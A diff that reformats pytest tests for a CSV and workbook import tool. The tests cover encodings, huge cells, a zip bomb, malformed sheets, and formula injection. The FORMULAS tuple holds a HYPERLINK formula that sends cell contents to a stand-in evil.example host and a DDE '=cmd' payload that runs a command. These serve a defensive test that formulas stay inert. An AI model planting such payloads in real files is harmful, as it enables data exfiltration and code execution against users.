@@ -30,7 +30,11 @@ def test_each_line_in_its_own_encoding(take, here, box) -> None:
         "Привет из города,".encode("cp1251") + LINK.format(3).encode(),
         b"broken \xff\xfe\x81 bytes," + LINK.format(4).encode(),
     ]
-    (box / "list.csv").write_bytes(head + b"\n".join([*lines, *("سطر اخر,".encode() + LINK.format(n).encode() for n in range(5, 12))]) + b"\n")
+    (box / "list.csv").write_bytes(
+        head
+        + b"\n".join([*lines, *("سطر اخر,".encode() + LINK.format(n).encode() for n in range(5, 12))])
+        + b"\n"
+    )
     done = take(box)
     rows = [a for a in done.added if a.sha256 is None]
     assert 11 == len(rows)
@@ -40,7 +44,14 @@ def test_each_line_in_its_own_encoding(take, here, box) -> None:
     assert "Привет из города" == titles[2]
 
 
-FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1")
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+)
 
 
 def test_formulas_are_text_and_nothing_is_computed(take, here, box) -> None:
@@ -67,7 +78,9 @@ def test_formulas_of_a_workbook(take, here, box) -> None:
 
 
 def test_dates_that_cannot_be_told_apart_are_kept_unread_with_why(take, box) -> None:
-    (box / "list.csv").write_text(f"title,url,date\na,{LINK.format(1)},01/02/2014\nb,{LINK.format(2)},03/04/2014\n")
+    (box / "list.csv").write_text(
+        f"title,url,date\na,{LINK.format(1)},01/02/2014\nb,{LINK.format(2)},03/04/2014\n"
+    )
     (box / "other.csv").write_text(f"title,url\nc,{LINK.format(3)}\n")
     done = take(box)
     unclear = next(a for a in done.added if a.path.endswith("list.csv"))
@@ -77,7 +90,9 @@ def test_dates_that_cannot_be_told_apart_are_kept_unread_with_why(take, box) -> 
 
 
 def test_cells_of_a_megabyte(take, here, box) -> None:
-    (box / "list.csv").write_text("title,url,notes\n" + "".join(f"big {n},{LINK.format(n)},{'x' * (1 << 20)}\n" for n in range(3)))
+    (box / "list.csv").write_text(
+        "title,url,notes\n" + "".join(f"big {n},{LINK.format(n)},{'x' * (1 << 20)}\n" for n in range(3))
+    )
     done = take(box)
     rows = [a for a in done.added if a.sha256 is None]
     assert 3 == len(rows)
@@ -91,10 +106,12 @@ def test_characters_that_no_database_holds(take, here, box, name: str) -> None:
         text = "title,url\n" + "".join(f"{o},{LINK.format(n)}\n" for n, o in enumerate(odd))
         (box / name).write_text(text)
     else:
+        spelled = {"\x01": "_x0001_", "\x02": "_x0000_", "\ufffe": "_xD800_"}
+        told = ["".join(spelled.get(c, c) for c in o) for o in odd]
         cells = "".join(
-            f'<row><c t="inlineStr"><is><t>{o.replace(chr(1), "_x0001_").replace(chr(2), "_x0000_").replace(chr(0xFFFE), "_xD800_")}'
+            f'<row><c t="inlineStr"><is><t>{o}'
             f'</t></is></c><c t="inlineStr"><is><t>{LINK.format(n)}</t></is></c></row>'
-            for n, o in enumerate(odd)
+            for n, o in enumerate(told)
         )
         head = '<row><c t="inlineStr"><is><t>title</t></is></c><c t="inlineStr"><is><t>url</t></is></c></row>'
         write_book(box / name, f"<sheetData>{head}{cells}</sheetData>")
@@ -111,7 +128,8 @@ def write_book(path: Path, inner: str) -> None:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as book:
         book.writestr(
             "[Content_Types].xml",
-            f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats'
+            f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
+            'ContentType="application/vnd.openxmlformats'
             f'-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
             f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/></Types>',
         )
@@ -122,7 +140,8 @@ def write_book(path: Path, inner: str) -> None:
         )
         book.writestr(
             "xl/workbook.xml",
-            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
+            f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets>'
+            '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
         )
         book.writestr(
             "xl/_rels/workbook.xml.rels",
@@ -142,7 +161,14 @@ def test_a_bomb_named_as_a_workbook_and_a_list_beside_it(take, box) -> None:
     assert 1 == len([a for a in done.added if a.sha256 is None])
 
 
-@pytest.mark.parametrize("cells", ['<row r="99999999999"><c><v>1</v></c></row>', '<row><c r="ZZZZZZ1"><v>1</v></c></row>', "<row>" * 20_000])
+@pytest.mark.parametrize(
+    "cells",
+    [
+        '<row r="99999999999"><c><v>1</v></c></row>',
+        '<row><c r="ZZZZZZ1"><v>1</v></c></row>',
+        "<row>" * 20_000,
+    ],
+)
 def test_workbooks_whose_cells_lie_far_out(take, box, cells: str) -> None:
     write_book(box / "far.xlsx", f"<sheetData>{cells}</sheetData>")
     (box / "z.txt").write_text("z")
